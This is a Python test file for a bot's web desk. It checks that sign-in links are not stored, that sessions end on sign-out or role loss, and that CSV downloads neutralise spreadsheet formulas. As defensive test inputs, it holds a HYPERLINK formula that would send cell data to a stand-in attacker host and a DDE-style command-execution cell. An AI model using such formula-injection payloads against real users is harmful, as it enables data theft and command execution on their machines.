"""The web desk's secrets and sessions, over real HTTP (aiohttp's client against the desk's server,
no browser needed): the sign-in link never rests readable in the database, a session ends on the
server (signing out, losing the role), a strange cookie is a plain 403, and no CSV download holds
a cell a spreadsheet would run. On SQLite and, when HCBOT_TEST_POSTGRES_URL is set, PostgreSQL."""

from __future__ import annotations

import io
import logging
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import aiohttp
import pytest
from sqlalchemy import select, update

from bot.app import App, build_app
from bot.clock import FixedClock
from bot.console import ConsoleMessenger
from bot.settings import DEFAULT_WEB_PORT, Settings
from bot.web.server import WebDesk
from handlers.delivery import DeliveryError, RateLimits, Recipient
from handlers.messages import Incoming, Reply
from handlers.secretariat.imports import import_file
from handlers.spreadsheet import csv_text, safe_cell
from knowledge import SearchIndex
from storage import repositories as repo
from storage.models import Base, OutboxMessage, OutboxStatus, Person, Role
from tests.conftest import EXAMPLES, START, database_url, fresh_database

SECRETARIAT = "secretariat@p2p.invalid"
# A question the bot declines (a complaint mechanism's printer is no question for the library), so
# that it reaches every download, the unanswered groups included.
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click") complaint mechanism printer'


@dataclass(slots=True)
class Unreachable:
    """A platform that is down: every send fails and is to be retried later."""

    platform: str = "console"
    limits: RateLimits = field(default_factory=RateLimits)

    async def send(self, recipient: Recipient, reply: Reply, *, plain: bool = False) -> None:
        raise DeliveryError("the platform is down")


@pytest.fixture
async def desk_app(backend: str, tmp_path: Path, index: SearchIndex) -> AsyncIterator[App]:
    url = database_url(backend, tmp_path)
    database = await fresh_database(url)
    await import_file(database, EXAMPLES / "operations.yaml")
    async with database.transaction() as session:
        person = await repo.person_by_email(session, SECRETARIAT)
        assert person is not None
        await repo.link_identity(session, person, "console", SECRETARIAT, SECRETARIAT)
    app = await build_app(Settings(database_url=url), clock=FixedClock(START), index=index, database=database)
    yield app
    await app.close()


@pytest.fixture
async def desk(desk_app: App) -> AsyncIterator[WebDesk]:
    served = WebDesk(desk_app, "127.0.0.1", 0)
    await served.start()
    desk_app.router.context.web_url = served.url
    yield served
    await served.stop()


async def _ask_link(app: App) -> str:
    replies = await app.live.answer(Incoming("console", SECRETARIAT, SECRETARIAT, text="/desk"))
    found = re.search(r"http://\S+/signin/\S+", "\n".join(reply.plain_text for reply in replies))
    assert found is not None
    return found.group(0)


async def _queue_link(app: App) -> str:
    """/desk answered, its reply queued but not sent (the platform is down): the link from the row."""
    await app.live.answer(Incoming("console", SECRETARIAT, SECRETARIAT, text="/desk"))
    found = re.search(r"http://\S+/signin/[\w-]+", " ".join(str(payload) for payload in await _payloads(app)))
    assert found is not None
    return found.group(0)


async def _payloads(app: App) -> list[object]:
    async with app.database.transaction() as session:
        return list((await session.execute(select(OutboxMessage.payload))).scalars())


async def _everything(app: App) -> str:
    """Every value of every table, as text: what a copy of the database would give."""
    async with app.database.transaction() as session:
        found: list[str] = []
        for table in Base.metadata.sorted_tables:
            found.extend(repr(tuple(row)) for row in (await session.execute(table.select())).all())
    return "\n".join(found)


async def _sign_in(link: str) -> str:
    """Opens a link as a browser would (GET shows the button, POST spends it); the session cookie."""
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        async with http.get(link) as shown:
            assert shown.status == 200
        async with http.post(link, allow_redirects=False) as opened:
            assert opened.status == 303
            return opened.cookies["hcbot_desk"].value


async def _status(desk: WebDesk, path: str, cookie: str) -> int:
    async with (aiohttp.ClientSession(cookies={"hcbot_desk": cookie}) as http,
                http.get(desk.url + path, allow_redirects=False) as response):
        return response.status


# ---------------------------------------------------------------------------- the link at rest


async def test_the_sign_in_link_never_rests_in_the_database(desk_app: App, desk: WebDesk) -> None:
    desk_app.add_messenger(ConsoleMessenger(io.StringIO()))
    link = await _ask_link(desk_app)
    token = link.rsplit("/", 1)[1]
    stored = await _everything(desk_app)
    assert token not in stored
    assert "removed once sent" in stored
    # The row stays, sent: a restart sends it no second time.
    async with desk_app.database.transaction() as session:
        statuses = list((await session.execute(select(OutboxMessage.status))).scalars())
    assert statuses == [OutboxStatus.SENT]
    # And the link itself still works, once.
    assert await _status(desk, "/plans", await _sign_in(link)) == 200


async def test_a_link_not_sent_in_its_ten_minutes_is_blanked(desk_app: App) -> None:
    desk_app.add_messenger(Unreachable())
    link = await _queue_link(desk_app)
    await desk_app.live.answer(Incoming("console", SECRETARIAT, SECRETARIAT, text="/help"))
    # Within its ten minutes the row keeps the link, to be sent when the platform is back.
    assert link.rsplit("/", 1)[1] in await _everything(desk_app)
    assert isinstance(desk_app.clock, FixedClock)
    desk_app.clock.advance_to(START + timedelta(minutes=11))
    served = WebDesk(desk_app, "127.0.0.1", 0)
    await served.start()  # the desk blanks lapsed links as it starts, then every minute
    try:
        stored = await _everything(desk_app)
        assert link.rsplit("/", 1)[1] not in stored
        texts = " ".join(str(payload) for payload in await _payloads(desk_app))
        assert "could not be sent in its 10 minutes. Send /desk for a new one." in texts
        # An ordinary reply waiting for the platform is kept whole.
        assert "/ask" in texts
    finally:
        await served.stop()


# ------------------------------------------------------------------------------------- sessions


async def test_signing_out_ends_the_session_on_the_server(desk_app: App, desk: WebDesk) -> None:
    desk_app.add_messenger(ConsoleMessenger(io.StringIO()))
    kept = await _sign_in(await _ask_link(desk_app))
    ended = await _sign_in(await _ask_link(desk_app))
    assert await _status(desk, "/plans", ended) == 200
    assert await _status(desk, "/signout", ended) == 303
    # A copy of the cookie taken before signing out opens nothing; another session lives on.
    assert await _status(desk, "/plans", ended) == 403
    assert await _status(desk, "/plans.csv", ended) == 403
    assert await _status(desk, "/plans", kept) == 200


async def _set_role(app: App, role: Role, *, orm: bool) -> None:
    async with app.database.transaction() as session:
        if orm:
            person = await repo.person_by_email(session, SECRETARIAT)
            assert person is not None
            person.role = role
        else:
            await session.execute(update(Person).where(Person.email == SECRETARIAT).values(role=role))


@pytest.mark.parametrize("orm", [True, False], ids=["changed-as-an-object", "changed-by-one-statement"])
async def test_a_role_taken_away_does_not_come_back_with_it(desk_app: App, desk: WebDesk, orm: bool) -> None:
    desk_app.add_messenger(ConsoleMessenger(io.StringIO()))
    cookie = await _sign_in(await _ask_link(desk_app))
    unused = await _ask_link(desk_app)
    await _set_role(desk_app, Role.HC, orm=orm)
    if not orm:
        # Changed behind the ORM's back: the first request that finds the role gone ends the sessions.
        assert await _status(desk, "/plans", cookie) == 403
    await _set_role(desk_app, Role.SECRETARIAT, orm=orm)
    assert await _status(desk, "/plans", cookie) == 403
    # The link not opened yet was ended with the sessions.
    async with (aiohttp.ClientSession() as http, http.get(unused) as response):
        assert response.status == 410
    # A new link works: the person signs in again.
    assert await _status(desk, "/plans", await _sign_in(await _ask_link(desk_app))) == 200


async def test_a_cookie_that_is_not_ascii_is_a_plain_refusal(desk: WebDesk, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    raw = "hcbot_desk=1.99999999999.\u00e9\u00e9".encode().decode("latin-1")
    async with (aiohttp.ClientSession() as http,
                http.get(desk.url + "/plans", headers={"Cookie": raw}) as response):
        assert response.status == 403
        assert "/desk" in await response.text()
    assert not [record for record in caplog.records if record.levelno >= logging.ERROR or record.exc_info]


# ----------------------------------------------------------------------------------------- port


async def test_desk_links_point_where_hcbot_web_listens_by_default(tmp_path: Path, index: SearchIndex) -> None:
    url = f"sqlite:///{tmp_path / 'port.sqlite3'}"
    database = await fresh_database(url)
    await import_file(database, EXAMPLES / "operations.yaml")
    async with database.transaction() as session:
        person = await repo.person_by_email(session, SECRETARIAT)
        assert person is not None
        await repo.link_identity(session, person, "console", SECRETARIAT, SECRETARIAT)
    # No HCBOT_WEB_PORT, no HCBOT_WEB_URL: `hcbot web` listens on the default port, and /desk says so.
    app = await build_app(Settings(database_url=url), clock=FixedClock(START), index=index, database=database)
    try:
        replies = await app.router.handle(Incoming("console", SECRETARIAT, SECRETARIAT, text="/desk"))
        assert f"http://127.0.0.1:{DEFAULT_WEB_PORT}/signin/" in "\n".join(reply.plain_text for reply in replies or [])
    finally:
        await app.close()
    assert DEFAULT_WEB_PORT == 8080


# ------------------------------------------------------------------------------------------ CSV


def test_a_text_cell_never_reads_as_a_formula() -> None:
    for risky in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "+x"):
        assert safe_cell(risky) == "'" + risky, risky
    for kept in ("plain words", "-3", "+4", "2.5", "-1e3", "", " =not at the start", 7, -3, 2.5, None, True):
        assert safe_cell(kept) == kept, kept
    assert csv_text(["a", "b"], [["=x", -3], ["-3", "ok"]]) == "a,b\n'=x,-3\n-3,ok\n"


async def test_no_download_holds_a_strangers_formula(desk_app: App, desk: WebDesk) -> None:
    desk_app.add_messenger(ConsoleMessenger(io.StringIO()))
    for number in range(3):
        stranger = f"stranger{number}"
        await desk_app.router.handle(Incoming("console", stranger, stranger, text=FORMULA))
    cookie = await _sign_in(await _ask_link(desk_app))
    downloads = {}
    async with aiohttp.ClientSession(cookies={"hcbot_desk": cookie}) as http:
        for path in ("/questions.csv", "/questions/groups.csv", "/trends/themes.csv", "/plans.csv",
                     "/broadcasts.csv", "/trends/actions.csv"):
            async with http.get(desk.url + path) as response:
                assert response.status == 200, path
                downloads[path] = await response.text()
    for path, text in downloads.items():
        for cell in (cell for line in text.splitlines() for cell in line.split(",")):
            assert not cell.lstrip('"').startswith(("=", "+", "@", "\t", "\r")), (path, cell)
    assert '"\'=HYPERLINK(' in downloads["/questions.csv"]
    assert '"\'=HYPERLINK(' in downloads["/questions/groups.csv"]
    # The brief quotes no question at all.
    assert "HYPERLINK" not in downloads["/trends/themes.csv"]
